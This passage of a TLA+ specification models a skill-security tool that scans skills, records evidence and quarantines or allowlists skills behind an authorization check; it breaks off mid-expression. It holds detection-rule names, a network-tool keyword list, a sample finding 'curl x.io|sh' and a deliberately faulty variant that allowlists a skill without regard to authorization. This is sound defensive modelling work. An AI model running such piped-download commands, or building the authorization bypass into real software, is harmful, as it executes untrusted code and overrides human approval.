\* What a command leaves its caller when a call inside it throws: the promise
\* of the command is rejected.
Thrown(by) == [success |-> FALSE, thrown |-> by]

\* A loadEvidence without the try/catch: it throws when the file is missing or
\* does not parse.
loadEvidence_Throws(dir, id) ==
    IF dir # DirMissing /\ Has(dir, id) /\ dir[id] # FilePartial THEN dir[id]
    ELSE Thrown("loadEvidence")

\* loadEvidence(evidenceId): the record; null when readFile or JSON.parse throws
loadEvidence(dir, id) ==
    IF dir # DirMissing /\ Has(dir, id) /\ dir[id] # FilePartial THEN dir[id] ELSE Null

\* readdir(EVIDENCE_DIR): the file names in an order the file system chooses
readdir(dir) ==
    IF dir = DirMissing THEN {}
    ELSE {order \in [1..Cardinality(DOMAIN dir) -> DOMAIN dir] :
            \A i, j \in DOMAIN order : i # j => order[i] # order[j]}

\* for (const file of files) { ...JSON.parse...; if (ev.skillKey === skillKey) push }
\* inside one try: the first file that does not parse ends the loop.
RECURSIVE EvidenceLoop(_, _, _, _, _)
EvidenceLoop(dir, files, i, k, evidence) ==
    IF i > Len(files) THEN evidence
    ELSE IF dir[files[i]] = FilePartial THEN evidence
    ELSE EvidenceLoop(dir, files, i + 1, k,
            IF dir[files[i]].skillKey = k THEN Append(evidence, dir[files[i]])
            ELSE evidence)

\* evidence.sort((a, b) => b.scanTimestamp.localeCompare(a.scanTimestamp)): a
\* stable sort, latest first; ISO timestamps compare as their times do.
RECURSIVE SortNewestFirst(_)
SortNewestFirst(evidence) ==
    IF evidence = <<>> THEN <<>>
    ELSE LET latest == CHOOSE i \in DOMAIN evidence :
                          /\ \A j \in DOMAIN evidence :
                                evidence[j].scanTimestamp <= evidence[i].scanTimestamp
                          /\ \A j \in 1..(i - 1) :
                                evidence[j].scanTimestamp < evidence[i].scanTimestamp
         IN  <<evidence[latest]>> \o
             SortNewestFirst(SubSeq(evidence, 1, latest - 1) \o
                             SubSeq(evidence, latest + 1, Len(evidence)))

\* findEvidenceForSkill(skillKey), readdir returning files
findEvidenceForSkill(dir, files, k) ==
    SortNewestFirst(EvidenceLoop(dir, files, 1, k, <<>>))

(***************************************************************************)
(* Text. JSON.stringify and String.prototype.includes work on characters:  *)
(* Chars gives, for the strings that occur in the evidence generated here   *)
(* and for the texts matched, the sequence of their characters.            *)
(***************************************************************************)
Chars(s) ==
    CASE
       s = "id" ->
           <<"i", "d">>
    [] s = "skillKey" ->
           <<"s", "k", "i", "l", "l", "K", "e", "y">>
    [] s = "skillPath" ->
           <<"s", "k", "i", "l", "l", "P", "a", "t", "h">>
    [] s = "scanTimestamp" ->
           <<"s", "c", "a", "n", "T", "i", "m", "e", "s", "t", "a", "m", "p">>
    [] s = "riskLevel" ->
           <<"r", "i", "s", "k", "L", "e", "v", "e", "l">>
    [] s = "riskScore" ->
           <<"r", "i", "s", "k", "S", "c", "o", "r", "e">>
    [] s = "recommendedAction" ->
           <<"r", "e", "c", "o", "m", "m", "e", "n", "d", "e", "d", "A", "c",
             "t", "i", "o", "n">>
    [] s = "findings" ->
           <<"f", "i", "n", "d", "i", "n", "g", "s">>
    [] s = "combos" ->
           <<"c", "o", "m", "b", "o", "s">>
    [] s = "rule" ->
           <<"r", "u", "l", "e">>
    [] s = "severity" ->
           <<"s", "e", "v", "e", "r", "i", "t", "y">>
    [] s = "file" ->
           <<"f", "i", "l", "e">>
    [] s = "line" ->
           <<"l", "i", "n", "e">>
    [] s = "description" ->
           <<"d", "e", "s", "c", "r", "i", "p", "t", "i", "o", "n">>
    [] s = "snippet_redacted" ->
           <<"s", "n", "i", "p", "p", "e", "t", "_", "r", "e", "d", "a", "c",
             "t", "e", "d">>
    [] s = "snippet_hash" ->
           <<"s", "n", "i", "p", "p", "e", "t", "_", "h", "a", "s", "h">>
    [] s = "redaction_applied" ->
           <<"r", "e", "d", "a", "c", "t", "i", "o", "n", "_", "a", "p", "p",
             "l", "i", "e", "d">>
    [] s = "true" ->
           <<"t", "r", "u", "e">>
    [] s = "sha256:" ->
           <<"s", "h", "a", "2", "5", "6", ":">>
    [] s = "skills" ->
           <<"s", "k", "i", "l", "l", "s">>
    [] s = "risky-skill" ->
           <<"r", "i", "s", "k", "y", "-", "s", "k", "i", "l", "l">>
    [] s = "example-skill" ->
           <<"e", "x", "a", "m", "p", "l", "e", "-", "s", "k", "i", "l", "l">>
    [] s = "ev-a1b2c3d4" ->
           <<"e", "v", "-", "a", "1", "b", "2", "c", "3", "d", "4">>
    [] s = "ev-e5f6a7b8" ->
           <<"e", "v", "-", "e", "5", "f", "6", "a", "7", "b", "8">>
    [] s = "CRITICAL" ->
           <<"C", "R", "I", "T", "I", "C", "A", "L">>
    [] s = "HIGH" ->
           <<"H", "I", "G", "H">>
    [] s = "MEDIUM" ->
           <<"M", "E", "D", "I", "U", "M">>
    [] s = "LOW" ->
           <<"L", "O", "W">>
    [] s = "SAFE" ->
           <<"S", "A", "F", "E">>
    [] s = "quarantine" ->
           <<"q", "u", "a", "r", "a", "n", "t", "i", "n", "e">>
    [] s = "disable" ->
           <<"d", "i", "s", "a", "b", "l", "e">>
    [] s = "warn" ->
           <<"w", "a", "r", "n">>
    [] s = "log" ->
           <<"l", "o", "g">>
    [] s = "none" ->
           <<"n", "o", "n", "e">>
    [] s = "supply-chain-attack" ->
           <<"s", "u", "p", "p", "l", "y", "-", "c", "h", "a", "i", "n", "-",
             "a", "t", "t", "a", "c", "k">>
    [] s = "obfuscated-execution" ->
           <<"o", "b", "f", "u", "s", "c", "a", "t", "e", "d", "-", "e", "x",
             "e", "c", "u", "t", "i", "o", "n">>
    [] s = "credential-theft" ->
           <<"c", "r", "e", "d", "e", "n", "t", "i", "a", "l", "-", "t", "h",
             "e", "f", "t">>
    [] s = "destructive-payload" ->
           <<"d", "e", "s", "t", "r", "u", "c", "t", "i", "v", "e", "-", "p",
             "a", "y", "l", "o", "a", "d">>
    [] s = "install-hook-risky" ->
           <<"i", "n", "s", "t", "a", "l", "l", "-", "h", "o", "o", "k", "-",
             "r", "i", "s", "k", "y">>
    [] s = "curl-pipe-bash" ->
           <<"c", "u", "r", "l", "-", "p", "i", "p", "e", "-", "b", "a", "s",
             "h">>
    [] s = "Remote code execution via curl pipe to shell" ->
           <<"R", "e", "m", "o", "t", "e", " ", "c", "o", "d", "e", " ", "e",
             "x", "e", "c", "u", "t", "i", "o", "n", " ", "v", "i", "a", " ",
             "c", "u", "r", "l", " ", "p", "i", "p", "e", " ", "t", "o", " ",
             "s", "h", "e", "l", "l">>
    [] s = "hardcoded-token" ->
           <<"h", "a", "r", "d", "c", "o", "d", "e", "d", "-", "t", "o", "k",
             "e", "n">>
    [] s = "Hardcoded secret or API key" ->
           <<"H", "a", "r", "d", "c", "o", "d", "e", "d", " ", "s", "e", "c",
             "r", "e", "t", " ", "o", "r", " ", "A", "P", "I", " ", "k", "e",
             "y">>
    [] s = "shell-spawn-untrusted" ->
           <<"s", "h", "e", "l", "l", "-", "s", "p", "a", "w", "n", "-", "u",
             "n", "t", "r", "u", "s", "t", "e", "d">>
    [] s = "Shell command with template literal (potential injection)" ->
           <<"S", "h", "e", "l", "l", " ", "c", "o", "m", "m", "a", "n", "d",
             " ", "w", "i", "t", "h", " ", "t", "e", "m", "p", "l", "a", "t",
             "e", " ", "l", "i", "t", "e", "r", "a", "l", " ", "(", "p", "o",
             "t", "e", "n", "t", "i", "a", "l", " ", "i", "n", "j", "e", "c",
             "t", "i", "o", "n", ")">>
    [] s = "obfuscated-code" ->
           <<"o", "b", "f", "u", "s", "c", "a", "t", "e", "d", "-", "c", "o",
             "d", "e">>
    [] s = "Potentially obfuscated code (hex escapes)" ->
           <<"P", "o", "t", "e", "n", "t", "i", "a", "l", "l", "y", " ", "o",
             "b", "f", "u", "s", "c", "a", "t", "e", "d", " ", "c", "o", "d",
             "e", " ", "(", "h", "e", "x", " ", "e", "s", "c", "a", "p", "e",
             "s", ")">>
    [] s = "shell-exec" ->
           <<"s", "h", "e", "l", "l", "-", "e", "x", "e", "c">>
    [] s = "Uses shell execution" ->
           <<"U", "s", "e", "s", " ", "s", "h", "e", "l", "l", " ", "e", "x",
             "e", "c", "u", "t", "i", "o", "n">>
    [] s = "network-request" ->
           <<"n", "e", "t", "w", "o", "r", "k", "-", "r", "e", "q", "u", "e",
             "s", "t">>
    [] s = "Makes network requests" ->
           <<"M", "a", "k", "e", "s", " ", "n", "e", "t", "w", "o", "r", "k",
             " ", "r", "e", "q", "u", "e", "s", "t", "s">>
    [] s = "install.sh" ->
           <<"i", "n", "s", "t", "a", "l", "l", ".", "s", "h">>
    [] s = "index.js" ->
           <<"i", "n", "d", "e", "x", ".", "j", "s">>
    [] s = "curl x.io|sh" ->
           <<"c", "u", "r", "l", " ", "x", ".", "i", "o", "|", "s", "h">>
    [] s = "e0e265d0" ->
           <<"e", "0", "e", "2", "6", "5", "d", "0">>
    [] s = "token='A1b2C3d4E5f6G7h8I9j0'" ->
           <<"t", "o", "k", "e", "n", "=", "'", "A", "1", "b", "2", "C", "3",
             "d", "4", "E", "5", "f", "6", "G", "7", "h", "8", "I", "9", "j",
             "0", "'">>
    [] s = "7a8c13be" ->
           <<"7", "a", "8", "c", "1", "3", "b", "e">>
    [] s = "exec('${" ->
           <<"e", "x", "e", "c", "(", "'", "$", "{">>
    [] s = "bb704328" ->
           <<"b", "b", "7", "0", "4", "3", "2", "8">>
    [] s = "\\x41\\x42\\x43" ->
           <<"\\", "x", "4", "1", "\\", "x", "4", "2", "\\", "x", "4", "3">>
    [] s = "ab54289a" ->
           <<"a", "b", "5", "4", "2", "8", "9", "a">>
    [] s = "exec" ->
           <<"e", "x", "e", "c">>
    [] s = "2706c619" ->
           <<"2", "7", "0", "6", "c", "6", "1", "9">>
    [] s = "spawn" ->
           <<"s", "p", "a", "w", "n">>
    [] s = "a04afb36" ->
           <<"a", "0", "4", "a", "f", "b", "3", "6">>
    [] s = "npm install" ->
           <<"n", "p", "m", " ", "i", "n", "s", "t", "a", "l", "l">>
    [] s = "Download tools" ->
           <<"D", "o", "w", "n", "l", "o", "a", "d", " ", "t", "o", "o", "l", "s">>
    [] s = "download" ->
           <<"d", "o", "w", "n", "l", "o", "a", "d">>
    [] s = "curl" ->
           <<"c", "u", "r", "l">>
    [] s = "wget" ->
           <<"w", "g", "e", "t">>
    [] s = "fetch" ->
           <<"f", "e", "t", "c", "h">>
    [] s = "e7d3799e" ->
           <<"e", "7", "d", "3", "7", "9", "9", "e">>

\* String(n) for a number n >= 0
Digit(n) == <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>[n + 1]
RECURSIVE toString(_)
toString(n) == IF n < 10 THEN <<Digit(n)>> ELSE toString(n \div 10) \o <<Digit(n % 10)>>

\* text.includes(part)
includes(text, part) ==
    \E i \in 0..(Len(text) - Len(part)) : SubSeq(text, i + 1, i + Len(part)) = part

\* JSON.stringify of a string (none here holds a character that is escaped), of
\* a member "key": value, and of a list of texts separated by commas.
JsonString(s) == <<"\"">> \o Chars(s) \o <<"\"">>
JsonMember(key, value) == JsonString(key) \o <<":", " ">> \o value
RECURSIVE JsonList(_)
JsonList(texts) ==
    IF texts = <<>> THEN <<>>
    ELSE IF Len(texts) = 1 THEN texts[1]
    ELSE texts[1] \o <<",">> \o JsonList(Tail(texts))

\* JSON.stringify(finding) of a RedactedFinding (indentation left out)
stringifyFinding(rf) ==
    <<"{">> \o
    JsonList(<< JsonMember("rule", JsonString(rf.rule)),
                JsonMember("severity", JsonString(rf.severity)),
                JsonMember("file", JsonString(rf.file)),
                JsonMember("line", toString(rf.line)),
                JsonMember("description", JsonString(rf.description)),
                JsonMember("snippet_redacted", Chars("true")),
                JsonMember("snippet_hash",
                    <<"\"">> \o Chars(rf.snippet_hash[1]) \o Chars(rf.snippet_hash[2])
                        \o <<"\"">>),
                JsonMember("redaction_applied", Chars("true")) >>)
    \o <<"}">>

\* A stringifyEvidence that writes an empty findings array.
stringifyEvidence_NoFindings(ev) ==
    <<"{">> \o
    JsonList(<< JsonMember("id", JsonString(ev.id)),
                JsonMember("skillKey", JsonString(ev.skillKey)),
                JsonMember("skillPath",
                    <<"\"">> \o Chars(ev.skillPath[1]) \o <<"/">> \o Chars(ev.skillPath[2])
                        \o <<"\"">>),
                JsonMember("scanTimestamp", <<"\"">> \o toString(ev.scanTimestamp) \o <<"\"">>),
                JsonMember("riskLevel", JsonString(ev.riskLevel)),
                JsonMember("riskScore", toString(ev.riskScore)),
                JsonMember("recommendedAction", JsonString(ev.recommendedAction)),
                JsonMember("findings", <<"[", "]">>),
                JsonMember("combos",
                    <<"[">> \o JsonList([i \in DOMAIN ev.combos |-> JsonString(ev.combos[i])])
                        \o <<"]">>) >>)
    \o <<"}">>

\* JSON.stringify(evidence, null, 2) as saveEvidence writes it (indentation,
\* scannedFiles and scanDuration left out)
stringifyEvidence(ev) ==
    <<"{">> \o
    JsonList(<< JsonMember("id", JsonString(ev.id)),
                JsonMember("skillKey", JsonString(ev.skillKey)),
                JsonMember("skillPath",
                    <<"\"">> \o Chars(ev.skillPath[1]) \o <<"/">> \o Chars(ev.skillPath[2])
                        \o <<"\"">>),
                JsonMember("scanTimestamp", <<"\"">> \o toString(ev.scanTimestamp) \o <<"\"">>),
                JsonMember("riskLevel", JsonString(ev.riskLevel)),
                JsonMember("riskScore", toString(ev.riskScore)),
                JsonMember("recommendedAction", JsonString(ev.recommendedAction)),
                JsonMember("findings",
                    <<"[">> \o JsonList([i \in DOMAIN ev.findings |->
                                            stringifyFinding(ev.findings[i])]) \o <<"]">>),
                JsonMember("combos",
                    <<"[">> \o JsonList([i \in DOMAIN ev.combos |-> JsonString(ev.combos[i])])
                        \o <<"]">>) >>)
    \o <<"}">>

(***************************************************************************)
(* JSON.parse. A parsed value carries its JSON type: a string holds its    *)
(* characters, an array its elements, an object its members in the order   *)
(* of the text. A text that is no JSON text yields SyntaxError (thrown).   *)
(***************************************************************************)
JsonStr(chars) == [type |-> "string", value |-> chars]
JsonNum(n) == [type |-> "number", value |-> n]
JsonBool(b) == [type |-> "boolean", value |-> b]
JsonArr(elements) == [type |-> "array", value |-> elements]
JsonObj(members) == [type |-> "object", value |-> members]
SyntaxError == [ok |-> FALSE]
Parsed(value, next) == [ok |-> TRUE, value |-> value, next |-> next]

\* The character at position i, or the end of the text
At(t, i) == IF i <= Len(t) THEN t[i] ELSE "EOF"
IsDigit(c) == c \in {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}
DigitValue(c) == CHOOSE n \in 0..9 : Digit(n) = c
StartsWith(t, i, word) ==
    /\ i + Len(word) - 1 <= Len(t)
    /\ SubSeq(t, i, i + Len(word) - 1) = word

RECURSIVE SkipSpace(_, _)
SkipSpace(t, i) == IF At(t, i) = " " THEN SkipSpace(t, i + 1) ELSE i

\* The characters of a string up to its closing quote
RECURSIVE ParseChars(_, _, _)
ParseChars(t, i, acc) ==
    IF i > Len(t) THEN SyntaxError
    ELSE IF t[i] = "\"" THEN Parsed(JsonStr(acc), i + 1)
    ELSE IF t[i] = "\\"
         THEN IF At(t, i + 1) \in {"\"", "\\", "/"}
              THEN ParseChars(t, i + 2, Append(acc, t[i + 1]))
              ELSE SyntaxError
    ELSE ParseChars(t, i + 1, Append(acc, t[i]))

\* The digits of a number (the numbers written here are integers >= 0)
RECURSIVE ParseDigits(_, _, _)
ParseDigits(t, i, n) ==
    IF IsDigit(At(t, i)) THEN ParseDigits(t, i + 1, 10 * n + DigitValue(t[i]))
    ELSE Parsed(JsonNum(n), i)

RECURSIVE ParseValue(_, _)
RECURSIVE ParseElements(_, _, _)
RECURSIVE ParseMembers(_, _, _)

\* The elements of an array after its bracket or after a comma
ParseElements(t, i, acc) ==
    LET r == ParseValue(t, SkipSpace(t, i)) IN
    IF ~r.ok THEN SyntaxError
    ELSE LET j == SkipSpace(t, r.next) IN
         IF At(t, j) = "," THEN ParseElements(t, j + 1, Append(acc, r.value))
         ELSE IF At(t, j) = "]" THEN Parsed(JsonArr(Append(acc, r.value)), j + 1)
         ELSE SyntaxError

\* The members of an object after its brace or after a comma
ParseMembers(t, i, acc) ==
    LET k == SkipSpace(t, i) IN
    IF At(t, k) # "\"" THEN SyntaxError
    ELSE LET key == ParseChars(t, k + 1, <<>>) IN
    IF ~key.ok THEN SyntaxError
    ELSE LET c == SkipSpace(t, key.next) IN
    IF At(t, c) # ":" THEN SyntaxError
    ELSE LET r == ParseValue(t, SkipSpace(t, c + 1)) IN
    IF ~r.ok THEN SyntaxError
    ELSE LET j == SkipSpace(t, r.next)
             member == [key |-> key.value.value, value |-> r.value]
         IN  IF At(t, j) = "," THEN ParseMembers(t, j + 1, Append(acc, member))
             ELSE IF At(t, j) = "}" THEN Parsed(JsonObj(Append(acc, member)), j + 1)
             ELSE SyntaxError

ParseValue(t, i) ==
    LET c == At(t, i) IN
    IF c = "\"" THEN ParseChars(t, i + 1, <<>>)
    ELSE IF c = "{"
         THEN IF At(t, SkipSpace(t, i + 1)) = "}"
              THEN Parsed(JsonObj(<<>>), SkipSpace(t, i + 1) + 1)
              ELSE ParseMembers(t, i + 1, <<>>)
    ELSE IF c = "["
         THEN IF At(t, SkipSpace(t, i + 1)) = "]"
              THEN Parsed(JsonArr(<<>>), SkipSpace(t, i + 1) + 1)
              ELSE ParseElements(t, i + 1, <<>>)
    ELSE IF IsDigit(c) THEN ParseDigits(t, i, 0)
    ELSE IF StartsWith(t, i, <<"t", "r", "u", "e">>) THEN Parsed(JsonBool(TRUE), i + 4)
    ELSE IF StartsWith(t, i, <<"f", "a", "l", "s", "e">>) THEN Parsed(JsonBool(FALSE), i + 5)
    ELSE SyntaxError

\* JSON.parse(text): the value, when the text is one value and nothing more
JSONparse(t) ==
    LET r == ParseValue(t, SkipSpace(t, 1)) IN
    IF r.ok /\ SkipSpace(t, r.next) = Len(t) + 1 THEN r.value ELSE SyntaxError

\* No saveEvidence has begun.
NotSaving == [pc |-> "idle"]

(***************************************************************************)
(* The operations as actions. One operation runs at a time: a call starts  *)
(* when no result is pending and sets result to the operation's name, its  *)
(* return value, and the calls it made, in order, to the authorization     *)
(* (with the answer) and to the mutating core functions (with their        *)
(* success); Return hands the result to the caller.                        *)
(***************************************************************************)
Call(fn, ret) == [fn |-> fn, skillKey |-> ret.skillKey, success |-> ret.success]

\* A call of quarantineSkill: also the evidence id and reason it was given, and
\* the QuarantineResult it returned.
QuarantineCall(ret, evidenceId, reason) ==
    Spread(Call("quarantineSkill", ret),
           [evidenceId |-> evidenceId, reason |-> reason, ret |-> ret])

\* A call of requireAuthWithTest({action, skillKey, ...}) and its authorized flag.
AuthCall(action, k, authorized) ==
    [fn |-> "requireAuthWithTest", skillKey |-> k, success |-> authorized,
     action |-> action]
\* A call of scanSkill(skill) followed by assessRisk: the level assessed.
ScanCall(k, a) == [fn |-> "scanSkill", skillKey |-> k, success |-> TRUE, level |-> a.level]

\* A call of saveEvidence(evidence) and whether it returned (it throws otherwise).
SaveCall(ev, outcome) ==
    [fn |-> "saveEvidence", skillKey |-> ev.skillKey, success |-> outcome = "saved",
     evidenceId |-> ev.id]

Result(op, ret, calls) == [op |-> op, ret |-> ret, calls |-> calls]
NoResult == Result("none", EmptyObject, <<>>)
Idle == result = NoResult

\* The caller takes the pending result.
Return ==
    /\ ~Idle
    /\ result' = NoResult
    /\ UNCHANGED <<config, evidenceDir, backups, clock>>

\* Outcomes of the file system during quarantineSkill: <<mkdirOk, writeOk>>
QuarantineIo == {<<TRUE, TRUE>>, <<TRUE, FALSE>>, <<FALSE, TRUE>>}

\* quarantineSkill(skill, evidence, reason) called directly
QuarantineSkill(k) ==
    \E id \in EvidenceIds, now \in clock..MaxClock, io \in QuarantineIo :
        LET q == quarantineSkill(config, k, id, "Test quarantine", now, io[1], io[2]) IN
        /\ config' = q.file
        /\ backups' = backups \cup q.backups
        /\ clock' = now
        /\ result' = Result("quarantineSkill", q.ret,
                        <<QuarantineCall(q.ret, id, "Test quarantine")>>)
        /\ UNCHANGED evidenceDir

\* restoreSkill(skillKey) called directly
RestoreSkill(k) ==
    \E writeOk \in BOOLEAN :
        LET r == restoreSkill(config, k, writeOk) IN
        /\ config' = r.file
        /\ result' = Result("restoreSkill", r.ret, <<Call("restoreSkill", r.ret)>>)
        /\ UNCHANGED <<evidenceDir, backups, clock>>

\* disableSkill(skill, reason) called directly
DisableSkill(k) ==
    \E writeOk \in BOOLEAN :
        LET d == disableSkill(config, k, writeOk) IN
        /\ config' = d.file
        /\ result' = Result("disableSkill", d.ret, <<Call("disableSkill", d.ret)>>)
        /\ UNCHANGED <<evidenceDir, backups, clock>>

\* allowlistSkill(skillKey) called directly
AllowlistSkill(k) ==
    \E writeOk \in BOOLEAN :
        LET a == allowlistSkill(config, k, writeOk) IN
        /\ config' = a.file
        /\ result' = Result("allowlistSkill", a.ret, <<Call("allowlistSkill", a.ret)>>)
        /\ UNCHANGED <<evidenceDir, backups, clock>>

\* govQuarantine(skillKey)
GovQuarantine(k) ==
    IF isQuarantined(config, k) # Null
    THEN /\ result' = Result("govQuarantine",
                [success |-> FALSE, skillKey |-> k, message |-> "already quarantined"], <<>>)
         /\ UNCHANGED <<config, evidenceDir, backups, clock>>
    ELSE \E found \in BOOLEAN :      \* findSkillByKey(skillKey) finds the skill
        IF ~found
        THEN /\ result' = Result("govQuarantine",
                    [success |-> FALSE, skillKey |-> k, message |-> "not found in any source"],
                    <<>>)
             /\ UNCHANGED <<config, evidenceDir, backups, clock>>
        ELSE \E fs \in ScanOutcomes, id \in GeneratedIds, saved \in SaveOutcomes :
            LET a == assessRisk(fs)
                evidence == generateEvidence(k, fs, a, id)
            IN  /\ evidenceDir' = saveEvidenceWith(evidenceDir, evidence, saved)
                /\ IF saved # "saved"
                   THEN /\ result' = Result("govQuarantine", Thrown("saveEvidence"),
                                        <<ScanCall(k, a), SaveCall(evidence, saved)>>)
                        /\ UNCHANGED <<config, backups, clock>>
                   ELSE \E authorized \in AuthOutcomes :
                   IF ~authorized
                   THEN /\ result' = Result("govQuarantine",
                                [success |-> FALSE, skillKey |-> k,
                                 message |-> "Quarantine cancelled: authorization denied",
                                 evidenceId |-> id],
                                <<ScanCall(k, a), SaveCall(evidence, saved), AuthCall("quarantine", k, FALSE)>>)
                        /\ UNCHANGED <<config, backups, clock>>
                   ELSE \E now \in clock..MaxClock, io \in QuarantineIo :
                        LET q == quarantineSkill(config, k, evidence.id,
                                    <<"Manual quarantine", a.level>>, now, io[1], io[2])
                        IN  /\ config' = q.file
                            /\ backups' = backups \cup q.backups
                            /\ clock' = now
                            /\ result' = Result("govQuarantine",
                                    Spread([success |-> q.ret.success, skillKey |-> k,
                                            message |-> q.ret.message, evidenceId |-> id],
                                           IF Has(q.ret, "backupPath")
                                           THEN [backupPath |-> q.ret.backupPath]
                                           ELSE EmptyObject),
                                    <<ScanCall(k, a), SaveCall(evidence, saved),
                                      AuthCall("quarantine", k, TRUE),
                                      QuarantineCall(q.ret, evidence.id,
                                          <<"Manual quarantine", a.level>>)>>)

\* govRestore(skillKey); the previousQuarantine field of its return value (a copy
\* of the block read at the start) is left out. The evidence loaded is only
\* printed; a loadEvidence that threw would reject the command.
GovRestore(k) ==
    IF isQuarantined(config, k) = Null
    THEN /\ result' = Result("govRestore",
                [success |-> FALSE, skillKey |-> k, message |-> "is not quarantined"], <<>>)
         /\ UNCHANGED <<config, evidenceDir, backups, clock>>
    ELSE LET evidence == loadEvidence(evidenceDir, isQuarantined(config, k).evidenceId) IN
    IF Has(evidence, "thrown")
    THEN /\ result' = Result("govRestore", evidence, <<>>)
         /\ UNCHANGED <<config, evidenceDir, backups, clock>>
    ELSE \E authorized \in AuthOutcomes :
        IF ~authorized
        THEN /\ result' = Result("govRestore",
                    [success |-> FALSE, skillKey |-> k,
                     message |-> "Restore cancelled: authorization denied"],
                    <<AuthCall("restore", k, FALSE)>>)
             /\ UNCHANGED <<config, evidenceDir, backups, clock>>
        ELSE \E writeOk \in BOOLEAN :
            LET r == restoreSkill(config, k, writeOk) IN
            /\ config' = r.file
            /\ result' = Result("govRestore",
                    [success |-> r.ret.success, skillKey |-> k, message |-> r.ret.message],
                    <<AuthCall("restore", k, TRUE), Call("restoreSkill", r.ret)>>)
            /\ UNCHANGED <<evidenceDir, backups, clock>>

\* govAllow that asks for authorization and allowlists whatever the answer.
GovAllow_IgnoresAnswer(k) ==
    IF isAllowlisted(config, k)
    THEN /\ result' = Result("govAllow",
                [success |-> FALSE, skillKey |-> k, message |-> "already allowlisted"], <<>>)
         /\ UNCHANGED <<config, evidenceDir, backups, clock>>
    ELSE \E authorized \in AuthOutcomes, writeOk \in BOOLEAN :
            LET a == allowlistSkill(config, k, writeOk) IN
            /\ config' = a.file
            /\ result' = Result("govAllow",
                    [success |-> a.ret.success, skillKey |-> k, message |-> a.ret.message],
                    <<AuthCall("allow", k, authorized), Call("allowlistSkill", a.ret)>>)
            /\ UNCHANGED <<evidenceDir, backups, clock>>

\* govAllow(skillKey)
GovAllow(k) ==
    IF isAllowlisted(config, k)
    THEN /\ result' = Result("govAllow",
                [success |-> FALSE, skillKey |-> k, message |-> "already allowlisted"], <<>>)
         /\ UNCHANGED <<config, evidenceDir, backups, clock>>
    ELSE \E authorized \in AuthOutcomes :
        IF ~authorized
        THEN /\ result' = Result("govAllow",
                    [success |-> FALSE, skillKey |-> k,
                     message |-> "Allowlist cancelled: authorization denied"],
                    <<AuthCall("allow", k, FALSE)>>)
             /\ UNCHANGED <<config, evidenceDir, backups, clock>>
        ELSE \E writeOk \in BOOLEAN :
            LET a == allowlistSkill(config, k, writeOk) IN
            /\ config' = a.file
            /\ result' = Result("govAllow",
                    [success |-> a.ret.success, skillKey |-> k, message |-> a.ret.message],
                    <<AuthCall("allow", k, TRUE), Call("allowlistSkill", a.ret)>>)
            /\ UNCHANGED <<evidenceDir, backups, clock>>

\* What discoverSkills() can return: no skill, or the skill.
DiscoveredLists == {<<>>} \cup {<<k>> : k \in SkillKeys}

GovScanResult(total, scanned, skipped, summaries, applied) ==
    [totalSkills |-> total, scannedSkills |-> scanned, skippedSkills |-> skipped,
     findings |-> summaries, actionsApplied |-> applied]

ActionApplied(action, ret) ==
    [skillKey |-> ret.skillKey, action |-> action, success |-> ret.success,
     message |-> ret.message]

\* govScan(options), options.all as drawn
GovScan ==
    \E all \in BOOLEAN, skills \in DiscoveredLists :
        IF skills = <<>>
        THEN /\ result' = Result("govScan", GovScanResult(0, 0, 0, <<>>, <<>>), <<>>)
             /\ UNCHANGED <<config, evidenceDir, backups, clock>>
        ELSE LET k == skills[1] IN
        IF isAllowlisted(config, k)
        THEN /\ result' = Result("govScan", GovScanResult(1, 0, 1, <<>>, <<>>), <<>>)
             /\ UNCHANGED <<config, evidenceDir, backups, clock>>
        ELSE \E fs \in ScanOutcomes :
            LET a == assessRisk(fs)
                relevantFindings ==
                    IF all THEN fs
                    ELSE SelectSeq(fs, LAMBDA f : f.severity = "CRITICAL" \/ f.severity = "HIGH")
            IN
            IF relevantFindings = <<>> /\ ~all
            THEN /\ result' = Result("govScan", GovScanResult(1, 1, 0, <<>>, <<>>),
                                <<ScanCall(k, a)>>)
                 /\ UNCHANGED <<config, evidenceDir, backups, clock>>
            ELSE \E id \in GeneratedIds, saved \in SaveOutcomes :
                LET hasEvidence == a.level \in {"CRITICAL", "HIGH", "MEDIUM"}
                    evidence == generateEvidence(k, fs, a, id)
                    saveCalls == <<ScanCall(k, a)>> \o
                                 (IF hasEvidence THEN <<SaveCall(evidence, saved)>> ELSE <<>>)
                    summary ==
                        Spread([skillKey |-> k, riskLevel |-> a.level, score |-> a.score,
                                findingCount |-> Len(fs)],
                               IF hasEvidence THEN [evidenceId |-> id] ELSE EmptyObject)
                IN
                IF hasEvidence /\ saved # "saved"
                THEN /\ evidenceDir' = saveEvidenceWith(evidenceDir, evidence, saved)
                     /\ result' = Result("govScan", Thrown("saveEvidence"), saveCalls)
                     /\ UNCHANGED <<config, backups, clock>>
                ELSE
                /\ evidenceDir' = IF hasEvidence THEN saveEvidence(evidenceDir, evidence)
                                  ELSE evidenceDir
                /\ IF shouldAutoQuarantine(a)
                   THEN \E authorized \in AuthOutcomes :
                        IF authorized /\ hasEvidence
                        THEN \E now \in clock..MaxClock, io \in QuarantineIo :
                             LET q == quarantineSkill(config, k, evidence.id,
                                        <<"Auto-quarantine", a.level>>, now, io[1], io[2])
                             IN  /\ config' = q.file
                                 /\ backups' = backups \cup q.backups
                                 /\ clock' = now
                                 /\ result' = Result("govScan",
                                        GovScanResult(1, 1, 0, <<summary>>,
                                            <<ActionApplied("quarantine", q.ret)>>),
                                        saveCalls \o
                                        <<AuthCall("quarantine", k, TRUE),
                                          QuarantineCall(q.ret, evidence.id,
                                              <<"Auto-quarantine", a.level>>)>>)
                        ELSE /\ result' = Result("govScan",
                                    GovScanResult(1, 1, 0, <<summary>>, <<>>),
                                    saveCalls \o <<AuthCall("quarantine", k, authorized)>>)
                             /\ UNCHANGED <<config, backups, clock>>
                   ELSE IF shouldAutoDisable(a)
                   THEN \E authorized \in AuthOutcomes :
                        IF authorized
                        THEN \E writeOk \in BOOLEAN :
                             LET d == disableSkill(config, k, writeOk) IN
                             /\ config' = d.file
                             /\ result' = Result("govScan",
                                    GovScanResult(1, 1, 0, <<summary>>,
                                        <<ActionApplied("disable", d.ret)>>),
                                    saveCalls \o
                                    <<AuthCall("disable", k, TRUE),
                                      Call("disableSkill", d.ret)>>)
                             /\ UNCHANGED <<backups, clock>>
                        ELSE /\ result' = Result("govScan",
                                    GovScanResult(1, 1, 0, <<summary>>, <<>>),
                                    saveCalls \o <<AuthCall("disable", k, FALSE)>>)
                             /\ UNCHANGED <<config, backups, clock>>
                   ELSE /\ result' = Result("govScan",
